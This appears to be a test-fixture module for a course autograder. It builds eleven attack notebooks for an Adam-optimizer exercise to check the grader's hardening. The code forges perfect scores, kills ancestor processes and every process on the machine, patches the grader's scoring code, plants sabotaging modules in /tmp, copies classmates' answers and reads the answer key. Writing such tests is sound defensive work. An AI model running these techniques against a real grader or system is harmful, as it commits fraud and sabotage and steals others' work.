"""The attacks of issue 9's adversarial review, as submissions of exercise 03.

Each is the released exercise (exercises/03_adam.ipynb) filled in by build_corpus.fill, the
way the corpus is built, with the attacker's code in its answer cells or in cells it adds.
They are built at test time (tests/test_grader_attacks.py), because some need the test's own
paths: the strongest attacker knows where the grader writes. Every process an attack leaves
running carries MARKER in its command line, so a test can look for it in /proc.
"""

import json
from pathlib import Path

from build_corpus import RIGHT, RUN_HEAD, STEP_HEAD, WRONG_STEP, fill

UNSOLVED_RUN = RUN_HEAD + "    raise NotImplementedError()\n"  # so that each attack's honest score is 0

# A detached process: fork, new session, fork again, then a fresh Python running `code`
# with the marker in its command line. The notebook's own process goes on at once.
DETACH = '''import os, subprocess, sys
def detach(code, marker, *arguments):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            subprocess.Popen([sys.executable, "-c", code, marker, *arguments], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        os._exit(0)
    os.wait()
'''

# Find every folder a grader named with --out and every notebook on a command line.
SPY = '''import os
def grader_paths():
    outs, notebooks = set(), set()
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            words = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for i, word in enumerate(words):
            path = os.path.join(cwd, word)
            if word == "--out" and i + 1 < len(words):
                outs.add(os.path.join(cwd, words[i + 1]))
            if word.endswith(".ipynb"):
                notebooks.add(path)
            if os.path.isdir(path) and not path.startswith("/proc"):
                try:
                    notebooks.update(os.path.join(path, n) for n in os.listdir(path) if n.endswith(".ipynb"))
                except OSError:
                    pass
    return outs, notebooks
'''

REWRITE = SPY + '''
import json, time, sys
fake = json.dumps({"score": 100, "tests": [], "output": "hacked"})
for _ in range(60):
    time.sleep(0.25)
    outs, _ = grader_paths()
    for out in outs:
        for root, folders, files in os.walk(out):
            for name in files:
                try:
                    path = os.path.join(root, name)
                    open(path, "w").write("submission,total\\nvictim,0\\n" if name == "gradebook.csv" else
                                          fake if name == "results.json" else "hacked")
                except OSError:
                    pass
    for extra in sys.argv[2:]:
        try:
            open(extra, "w").write(fake)
        except OSError:
            pass
'''

KILL_ANCESTORS = '''import os, signal
pid = os.getpid()
killed = []
while pid > 1:
    pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    if pid > 1:
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
print("killed ancestors:", killed)
'''

APPEND_TO_GRADER = '''import os, sys, adam_teach
changed = 0
places = {os.path.dirname(adam_teach.__file__)} | {os.path.join(p, "adam_teach") for p in sys.path}
for place in places:
    for root, folders, files in os.walk(place):
        for name in files:
            if name.endswith(".py"):
                try:
                    with open(os.path.join(root, name), "a") as file:
                        file.write("\\nimport adam_teach.grading.judge as j; j._scaled = lambda *a: a[2]\\n")
                    changed += 1
                except OSError:
                    pass
print("changed", changed, "files of the grader")
'''

KILL_EVERYONE = '''import os, signal, time
end = time.monotonic() + 3
while time.monotonic() < end:
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.05)
print("still here")
'''

PLANT_GLOB = '''
import glob as _unused, os, time
sabotage = "import os\\nos._exit(0)\\n"
for _ in range(120):
    for place in ["/tmp", "/var/tmp", "/run/lock", os.getcwd()] + [os.path.join("/tmp", d) for d in os.listdir("/tmp")]:
        for name in ("glob.py", "numpy.py", "inspect.py"):
            try:
                open(os.path.join(place, name), "w").write(sabotage)
            except OSError:
                pass
    time.sleep(0.25)
'''

SLEEPER = "import time; time.sleep(120)"

COPY_CLASSMATE = SPY + '''
import json
stolen = None
candidates = sorted(grader_paths()[1])
import adam_teach
course = os.path.dirname(os.path.dirname(adam_teach.__file__))
candidates.append(os.path.join(course, "solutions", "03_adam.ipynb"))
read = []
for path in candidates:
    try:
        notebook = json.load(open(path))
    except (OSError, ValueError):
        continue
    read.append(path)
    for cell in notebook["cells"]:
        source = "".join(cell["source"])
        if source.startswith("def adam_step") and "NotImplementedError" not in source:
            stolen = source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
print("could read", len(read), "notebooks; stole an answer:", stolen is not None)
if stolen:
    exec(stolen)
'''

KEEP_ALIVE = '''import json, os, signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
end = time.monotonic() + 60
while time.monotonic() < end:
    for fd in range(3, 40):
        for index in range(20):
            try:
                os.write(fd, b"\\n" + json.dumps({"event": "cell", "index": index}).encode() + b"\\n")
            except OSError:
                break
    time.sleep(0.1)
print("ran 60 s")
'''

FORGED_SCALAR = STEP_HEAD + '''    import json, os
    for item in range(2):
        for case in range(3):
            forged = {"event": "outcome", "item": item, "case": case, "error": "", "mutated": False,
                      "value": {"__tuple__": [{"__scalar__": 2**70, "dtype": "int8"}] * 3}}
            for fd in range(3, 40):
                try:
                    os.write(fd, b"\\n" + json.dumps(forged).encode() + b"\\n")
                except OSError:
                    pass
''' + RIGHT["adam_step_solution"].split("\n", 1)[1]

IMPORT_ANSWER_KEY = '''import os, adam_teach
folder = os.path.join(os.path.dirname(adam_teach.__file__), "answer_key")
try:
    print("answer key files:", os.listdir(folder))
    print(open(os.path.join(folder, "references.py")).read()[:100])
except OSError as error:
    print("answer key unreadable:", type(error).__name__)
try:
    from adam_teach.answer_key.references import adam_step, run_adam
except Exception as error:
    print("answer key not importable:", type(error).__name__)
    try:
        from adam_teach.assignments.adam import adam_step, run_adam
    except Exception as error:
        print("old answer key not importable:", type(error).__name__)
'''

ASK_GRADER = STEP_HEAD + '''    import gc
    from adam_teach.runner.notebook import Channel, Control, _GraderCall
    control = next(o for o in gc.get_objects() if isinstance(o, Control))
    channel = next(o for o in gc.get_objects() if isinstance(o, Channel))
    return _GraderCall("adam_step", control, channel)(x, g, m, v, t, learning_rate, beta_1, beta_2, epsilon)
'''

WRAP_STEP = STEP_HEAD + '''    from adam_teach.optimizers import Adam
    from adam_teach.optimizers.adam import AdamState
    as_array = lambda value: np.asarray(value, dtype=float)
    optimizer = Adam(learning_rate, beta_1, beta_2, epsilon)
    x, state, _ = optimizer.step(as_array(x), as_array(g), AdamState(t - 1, as_array(m), as_array(v)))
    return x, state.m, state.v
'''
WRAP_RUN = '''from adam_teach.optimizers import Adam
kept_step = Adam.step  # kept before the grader's calls
def run_adam(grad_fn, x0, steps, learning_rate=0.001, beta_1=0.9, beta_2=0.999, epsilon=1e-8):
    optimizer = Adam(learning_rate, beta_1, beta_2, epsilon)
    x = np.asarray(x0, dtype=float)
    state, path = optimizer.init(x), [x]
    for _ in range(steps):
        x, state, _ = kept_step(optimizer, x, grad_fn(x), state)
        path.append(x)
    return np.array(path)
'''


def rewriter(marker, *paths):
    """Cells that leave a process behind which, for 15 s, overwrites the grader's results
    (and `paths`) with a score of 100."""
    return [DETACH + f"\ndetach({REWRITE!r}, {marker!r}, *{[str(p) for p in paths]!r})\n"]


def attacks(marker):
    """name -> (answer cells, cells added after the setup cell): the table's attacks."""
    detach = DETACH + "\n"
    return {
        "attack_imports_answer_key": ({"adam_step_solution": IMPORT_ANSWER_KEY, "run_adam_solution": "\n"}, []),
        "attack_wraps_course_optimizer": ({"adam_step_solution": WRAP_STEP, "run_adam_solution": WRAP_RUN}, []),
        "attack_detached_rewriter": ({"adam_step_solution": WRONG_STEP}, rewriter(marker)),
        "attack_kills_ancestors": ({"adam_step_solution": WRONG_STEP}, [KILL_ANCESTORS]),
        "attack_appends_to_grader": ({"adam_step_solution": WRONG_STEP}, [APPEND_TO_GRADER]),
        "attack_kills_everyone": ({"adam_step_solution": WRONG_STEP}, [KILL_EVERYONE]),
        "attack_plants_glob": ({"adam_step_solution": WRONG_STEP}, [
            detach + f"detach({PLANT_GLOB!r}, {marker!r})\n"]),
        "attack_forty_sleepers": ({"adam_step_solution": WRONG_STEP}, [
            "import subprocess, sys\n"
            f"sleepers = [subprocess.Popen([sys.executable, '-c', {SLEEPER!r}, {marker!r}], start_new_session=True)\n"
            "            for _ in range(40)]\n"]),
        "attack_copies_classmate": ({"adam_step_solution": COPY_CLASSMATE}, []),
        "attack_forged_scalar": ({"adam_step_solution": FORGED_SCALAR}, []),
        "attack_asks_grader_for_answer": ({"adam_step_solution": ASK_GRADER}, []),
    }


def write(folder, name, notebook):
    path = Path(folder) / f"{name}.ipynb"
    path.write_text(json.dumps(notebook, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return path


def build(folder, released, marker):
    """Write every attack of `attacks` into `folder`; returns their paths."""
    Path(folder).mkdir(parents=True, exist_ok=True)
    return [write(folder, name, fill(released, {"run_adam_solution": UNSOLVED_RUN, **answers}, added))
            for name, (answers, added) in attacks(marker).items()]

# Exercise 04: adam_step_keras asks for Keras's ε̂ form written out; this one hands the step
# to tf.keras.optimizers.Adam, with the state set by hand.
KERAS_STEP = '''def adam_step_keras(x, g, m, v, t, learning_rate, beta_1, beta_2, epsilon):
    x = tf.Variable(np.asarray(x, dtype="float32"))
    optimizer = tf.keras.optimizers.Adam(learning_rate=learning_rate, beta_1=beta_1, beta_2=beta_2,
                                         epsilon=epsilon)
    optimizer.build([x])
    optimizer.iterations.assign(t - 1)
    optimizer._momentums[0].assign(np.asarray(m, dtype="float32"))
    optimizer._velocities[0].assign(np.asarray(v, dtype="float32"))
    optimizer.apply_gradients([(tf.constant(np.asarray(g, dtype="float32")), x)])
    return x.numpy(), optimizer._momentums[0].numpy(), optimizer._velocities[0].numpy()
'''
